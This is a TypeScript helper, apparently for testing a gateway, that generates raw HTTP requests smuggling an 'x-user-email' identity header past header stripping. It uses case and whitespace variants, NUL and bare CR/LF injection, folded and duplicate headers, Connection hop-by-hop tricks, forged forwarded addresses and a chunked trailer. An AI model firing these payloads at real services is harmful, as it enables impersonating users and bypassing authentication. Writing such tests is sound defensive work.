/** Ways to bring `x-user-email` past a gateway that takes it away from whom nobody trusts. */
export function listSpoofs(email: string): { name: string; bytes: string }[] {
  const lines: [string, string][] = [
    ['the header', `x-user-email: ${email}\r\n`],
    ['capitals', `X-USER-EMAIL: ${email}\r\n`],
    ['underscores', `X_User_Email: ${email}\r\n`],
    ['a space before the colon', `x-user-email : ${email}\r\n`],
    ['a tab before the colon', `x-user-email\t: ${email}\r\n`],
    ['a folded line', `x-a: b\r\n\tx-user-email: ${email}\r\n`],
    ['a bare CR', `x-a: b\rx-user-email: ${email}\r\n`],
    ['a bare LF', `x-a: b\nx-user-email: ${email}\r\n`],
    ['a NUL', `x-user-email\0: ${email}\r\n`],
    ['the header twice', `x-user-email: ${email}\r\nx-user-email: ${email}\r\n`],
    ['an empty one first', `x-user-email:\r\nx-user-email: ${email}\r\n`],
    ['Connection that names it', `Connection: x-user-email\r\nx-user-email: ${email}\r\n`],
    ['Connection that names nothing', `Connection: ,,\r\nx-user-email: ${email}\r\n`],
    ['a forwarded peer', `x-forwarded-for: 127.0.0.1\r\nx-user-email: ${email}\r\n`],
    ['a forwarded socket', `forwarded: for=unix\r\nx-real-ip: unix\r\nx-user-email: ${email}\r\n`],
  ];
  const spoofs = lines.map(([name, line]) => ({
    name,
    bytes: `GET /experiments HTTP/1.1\r\nHost: a\r\n${line}\r\n`,
  }));
  const trailer = `GET /experiments HTTP/1.1\r\nHost: a\r\nTrailer: x-user-email\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nx-user-email: ${email}\r\n\r\n`;
  return [...spoofs, { name: 'a trailer', bytes: trailer }];
}
